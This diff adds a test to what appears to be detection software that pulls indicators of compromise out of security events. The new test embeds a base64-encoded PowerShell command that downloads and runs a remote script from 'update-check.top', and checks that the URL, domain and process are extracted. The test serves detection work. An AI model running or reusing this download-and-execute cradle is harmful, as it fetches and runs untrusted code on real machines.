@@ -64,4 +64,12 @@ describe('indicator roles', () => {
     const compromised = makeSignal('behaviour', 'b', rule('high', []), [0], lookup, catalog, [{ type: 'user', value: 'BACKUP', role: 'compromised_account', eventIndices: [0] }]);
     expect(buildIndicators([targeted, compromised], lookup, catalog)).toEqual([expect.objectContaining({ type: 'user', role: 'compromised_account' })]);
   });
+
+  it('pulls the infrastructure out of a flagged command line, including an encoded payload', () => {
+    const enc = Buffer.from("IEX (New-Object Net.WebClient).DownloadString('http://update-check.top/a.ps1')", 'utf16le').toString('base64');
+    const e = event(0, '2026-01-01T00:00:00Z', { action: 'process_create', entities: { user: 'bob', host: 'ws-1', process: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', commandLine: `powershell -enc ${enc}` } });
+    const s = makeSignal('detection', 'd', rule('high', ['attack.execution', 'attack.t1059.001']), [0], lookupOf([e]), catalog);
+    const got = buildIndicators([s], lookupOf([e]), catalog).map((i) => `${i.type}:${i.value}:${i.role}`);
+    expect(got).toEqual(expect.arrayContaining(['url:http://update-check.top/a.ps1:payload_url', 'domain:update-check.top:payload_host', 'process:powershell.exe:suspicious_process']));
+  });
 });
